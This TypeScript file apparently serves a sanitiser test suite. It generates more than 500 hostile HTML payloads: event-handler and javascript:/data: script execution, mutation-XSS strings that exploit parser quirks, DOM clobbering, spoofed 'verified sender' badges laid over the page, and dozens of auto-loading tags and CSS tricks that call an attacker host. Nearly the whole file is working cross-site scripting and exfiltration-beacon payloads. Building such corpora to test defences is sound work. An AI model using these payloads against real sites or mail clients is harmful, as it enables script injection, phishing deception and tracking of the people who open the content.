// Hostile HTML, generated: every way to run or to load that we know, in every disguise that has fooled a sanitiser.

export interface Payload {
  readonly name: string;
  readonly kind: "control" | "hostile";
  readonly html: string;
}

const RUN = "console.log('PWNED');globalThis.PWNED=1";

/** Makes at least 500 payloads, the plainest first; `host` is where an attacker listens. */
export function payloads(host: string): Payload[] {
  const url = `http://${host}/hit`;
  const list: Payload[] = [];
  const add = (name: string, html: string, kind: Payload["kind"] = "hostile") => list.push({ name: `${list.length + 1} ${name}`, kind, html });

  // What surely works in a page without defences: the proof that the detector sees.
  add("script", `<script>${RUN}</script>`, "control");
  add("img onerror", `<img src="x:" onerror="${RUN}">`, "control");
  add("img", `<img src="${url}">`, "control");
  add("stylesheet", `<link rel="stylesheet" href="${url}">`, "control");
  add("background", `<div style="background:url(${url});width:50px;height:50px">x</div>`, "control");
  add("frame", `<iframe src="${url}"></iframe>`, "control");

  // Imitations of what stands outside.
  add("badge", `<div class="badge verified" id="badge"><strong>Verified sender IMITATION</strong></div>`);
  add("badge over the page", `<div class="badge verified" style="position:fixed;inset:0;z-index:99999">IMITATION</div>`);
  add("end of the frame", `</body></html></iframe><div class="badge verified">IMITATION</div>`);
  add("end of the attribute", `"></iframe><div class="badge verified">IMITATION</div>`);
  add("escaped end of the attribute", `&quot;&gt;&lt;/iframe&gt;<div class="badge verified">IMITATION</div>`);
  add("main", `<main id="main" data-page="message"><h1>IMITATION</h1></main>`);
  add("clobbering", `<form id="badge" name="document"><input name="body"><input name="getElementById"></form><img name="cookie"><a id="location" href="${url}">IMITATION</a>`);

  // What loads by itself.
  const loads: [string, string][] = [
    ["img srcset", `<img srcset="${url} 1x, ${url}2 2x">`],
    ["picture", `<picture><source srcset="${url}"><img src="${url}"></picture>`],
    ["video", `<video src="${url}" poster="${url}" autoplay></video>`],
    ["audio", `<audio src="${url}" autoplay></audio>`],
    ["track", `<video><track src="${url}" default></video>`],
    ["embed", `<embed src="${url}">`],
    ["object", `<object data="${url}"></object>`],
    ["input image", `<input type="image" src="${url}">`],
    ["body background", `<body background="${url}">x</body>`],
    ["table background", `<table background="${url}"><tr><td background="${url}">x</td></tr></table>`],
    ["import", `<style>@import url("${url}");</style>`],
    ["font", `<style>@font-face{font-family:x;src:url("${url}")}*{font-family:x}</style>x`],
    ["style element", `<style>*{background:url("${url}")}</style>x`],
    ["list-style", `<ul style="list-style-image:url(${url})"><li>x</li></ul>`],
    ["cursor", `<div style="cursor:url(${url}),auto;width:500px;height:500px">x</div>`],
    ["content", `<div style="content:url(${url})">x</div>`],
    ["border-image", `<div style="border:9px solid;border-image:url(${url}) 1">x</div>`],
    ["mask", `<div style="mask:url(${url});-webkit-mask-image:url(${url})">x</div>`],
    ["filter", `<div style="filter:url(${url}#x)">x</div>`],
    ["image-set", `<div style="background:image-set('${url}' 1x)">x</div>`],
    ["escaped url", `<div style="background:u\\72l(${url})">x</div>`],
    ["commented url", `<div style="background:/**/url/**/(${url})">x</div>`],
    ["variable", `<div style="--x:url(${url});background:var(--x)">x</div>`],
    ["attr", `<div style="background:url(attr(title))" title="${url}">x</div>`],
    ["refresh", `<meta http-equiv="refresh" content="0;url=${url}">`],
    ["base", `<base href="http://${host}/"><img src="hit"><a href="hit">x</a>`],
    ["preload", `<link rel="preload" as="image" href="${url}"><link rel="prefetch" href="${url}"><link rel="dns-prefetch" href="//${host}"><link rel="preconnect" href="//${host}">`],
    ["modulepreload", `<link rel="modulepreload" href="${url}">`],
    ["manifest", `<link rel="manifest" href="${url}"><link rel="icon" href="${url}">`],
    ["frameset", `<frameset><frame src="${url}"></frameset>`],
    ["portal", `<portal src="${url}"></portal><fencedframe></fencedframe>`],
    ["ping", `<a href="#" ping="${url}">x</a>`],
    ["cid that is none", `<img src="cid:${url}"><img src="cid:nothing">`],
    ["srcdoc", `<iframe srcdoc="<img src='${url}'><script>parent.${RUN}</script>"></iframe>`],
    ["template", `<template shadowrootmode="open"><img src="${url}"><style>@import "${url}"</style></template>`],
    ["declarative shadow", `<div><template shadowroot="open"><slot></slot><img src="${url}"></template>x</div>`],
    ["svg image", `<svg><image href="${url}" xlink:href="${url}"/></svg>`],
    ["svg feImage", `<svg width="9" height="9"><filter id="f"><feImage href="${url}"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>`],
    ["svg use", `<svg><use href="${url}#x"/></svg>`],
    ["math", `<math href="${url}"><mi xlink:href="${url}">x</mi></math>`],
    ["applet", `<applet code="${url}" codebase="${url}"></applet>`],
    ["bgsound", `<bgsound src="${url}"><img dynsrc="${url}" lowsrc="${url}">`],
    ["xml stylesheet", `<?xml-stylesheet href="${url}"?><x xmlns="http://www.w3.org/1999/xhtml">x</x>`],
    ["form", `<form action="${url}" id="f"><input name="a" autofocus onfocus="f.submit()"><button>x</button></form>`],
    ["isindex", `<isindex action="${url}" type="submit">`],
    ["lazy", `<img loading="eager" fetchpriority="high" src="${url}">`],
    ["protocol relative", `<img src="//${host}/hit">`],
    ["upper case", `<IMG SRC="HTTP://${host}/hit">`],
    ["tab in the scheme", `<img src="ht\ttp://${host}/hit">`],
    ["backslashes", `<img src="\\\\${host}\\hit">`],
    ["no quotes", `<img src=${url}>`],
    ["entities", `<img src="&#104;ttp://${host}/hit">`],
    ["speculation", `<script type="speculationrules">{"prefetch":[{"urls":["${url}"]}]}</script>`],
  ];
  for (const [name, html] of loads) add(name, html);

  // What runs: each handler and each element that has one.
  const handlers = (
    "onload onerror onclick onmouseover onmouseenter onfocus onblur ontoggle onbegin onstart onanimationstart onanimationend " +
    "ontransitionend onpointerover onpointerenter onpageshow onhashchange onmessage onresize onscroll onwheel onauxclick " +
    "onbeforetoggle oncontentvisibilityautostatechange onsecuritypolicyviolation onloadstart oncanplay onplay onshow"
  ).split(" ");
  const elements = ["img src=x:", "body", "div tabindex=0 autofocus", "details open", "video autoplay src=x:", "svg", "input autofocus", "marquee"];
  for (const handler of handlers) {
    for (const element of elements) add(`${element} ${handler}`, `<${element} ${handler}="${RUN}">x</${element.split(" ")[0]}>`);
  }

  // Addresses that run.
  const schemes = ["javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "&#106;avascript:", "&#x6a;avascript&colon;", " javascript:", "\u0001javascript:", "vbscript:", "data:text/html,", "data:text/html;base64,", "blob:", "filesystem:", "view-source:javascript:"];
  for (const scheme of schemes) {
    const target = scheme.startsWith("data:text/html;base64") ? `${scheme}${Buffer.from(`<script>${RUN}</script>`).toString("base64")}` : scheme.startsWith("data:") ? `${scheme}<script>${RUN}</script>` : `${scheme}${RUN}`;
    for (const where of [`<a href="${target}">x</a>`, `<iframe src="${target}"></iframe>`, `<form action="${target}"><button>x</button></form>`, `<object data="${target}"></object>`, `<svg><a xlink:href="${target}"><text>x</text></a></svg>`, `<area href="${target}">`, `<img src="${target}">`, `<meta http-equiv="refresh" content="0;url=${target}">`]) {
      add(`address ${JSON.stringify(scheme)}`, where);
    }
  }

  // Mutations: HTML that changes its meaning between one reading and the next.
  const core = `<img src=x: onerror="${RUN}">`;
  const mutations = [
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${core.replace(/"/g, "&quot;")}">`,
    `<form><math><mtext></form><form><mglyph><style></math>${core}`,
    `<svg></p><style><a id="</style>${core}">`,
    `<svg><style><img src="</style>${core}">`,
    `<math><annotation-xml encoding="text/html"><style><img src="</style>${core}"></annotation-xml></math>`,
    `<noscript><p title="</noscript>${core}">`,
    `<textarea><p title="</textarea>${core}">`,
    `<title><p title="</title>${core}">`,
    `<xmp><p title="</xmp>${core}">`,
    `<noembed><p title="</noembed>${core}">`,
    `<noframes><p title="</noframes>${core}">`,
    `<iframe><p title="</iframe>${core}">`,
    `<plaintext>${core}`,
    `<select><template><style></select>${core}</style></template></select>`,
    `<option><style></option></select><b>${core}</style></option>`,
    `<svg><foreignObject><p><style><!--</style>${core}--></p></foreignObject></svg>`,
    `<svg><desc><table><a id="</desc>${core}"></table></desc></svg>`,
    `<math><mi><div><h1></math>${core}`,
    `<table><td><svg><style></td></table>${core}`,
    `<!--><img src="--><img src=x: onerror=${RUN}//">`,
    `<!--[if gte IE 4]>${core}<![endif]-->`,
    `<![CDATA[<b>]]>${core}`,
    `<?php ?>${core}<?`,
    `<p id="</p>${core}">`,
    `<a title="\u00a0\`${core}\`">`,
    `<div a="1" a="2"${core}>`,
    `<img alt="\`\`onerror=${RUN}">`,
    `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
    `<svg><set attributeName=href to="javascript:${RUN}"><a>x</a></set></svg>`,
    `<svg><script href="data:,${RUN}"/></svg>`,
    `<svg><script>&#99;onsole.log('PWNED')</script></svg>`,
    `<math><maction actiontype="statusline#http://x" xlink:href="javascript:${RUN}">x</maction></math>`,
    `<script src="data:text/javascript,${RUN}"></script>`,
    `<script type="module">${RUN}</script>`,
    `<script src="/assets/portal.js" type="module"></script>`,
    `<scr<script>ipt>${RUN}</scr</script>ipt>`,
    `<script/x>${RUN}</script/x>`,
    `<\u0000script>${RUN}</script>`,
    `<img src=x:${"\u3000"}onerror=${RUN}>`,
    `<img/src=x:/onerror=${RUN}>`,
    `<image src=x: onerror="${RUN}">`,
    `<custom-element onclick="${RUN}" is="x-y">x</custom-element>`,
    `<button popovertarget="x" popovertargetaction="show">x</button><div id="x" popover onbeforetoggle="${RUN}">x</div>`,
    `<dialog open onclose="${RUN}"><form method="dialog"><button autofocus>x</button></form></dialog>`,
    `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
    `<style>@keyframes x{}</style><div style="animation:x 1s" onanimationstart="${RUN}">x</div>`,
    `<div style="width:expression(${RUN})">x</div><div style="behavior:url(x.htc);-moz-binding:url(x)">x</div>`,
    `<link rel="import" href="data:text/html,<script>${RUN}</script>">`,
    `<object type="text/html" data="data:text/html,<script>${RUN}</script>"></object>`,
    `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN.replace(/'/g, "")}'/>">`,
  ];
  const wrappers: [string, (html: string) => string][] = [
    ["", (html) => html],
    ["in a table", (html) => `<table><tr><td>${html}</td></tr></table>`],
    ["in svg", (html) => `<svg><foreignObject>${html}</foreignObject></svg>`],
    ["in a quote", (html) => `<blockquote type="cite"><div>${html}`],
    ["in upper case", (html) => html.replace(/<\/?[a-z]+/g, (tag) => tag.toUpperCase())],
  ];
  for (const [how, wrap] of wrappers) for (const html of mutations) add(`mutation ${how}`, wrap(html));

  // After the plainest ones every fifth, five times over: a short run sees every family.
  const rest = list.splice(20);
  for (let start = 0; start < 5; start++) list.push(...rest.filter((_, at) => at % 5 === start));
  return list;
}
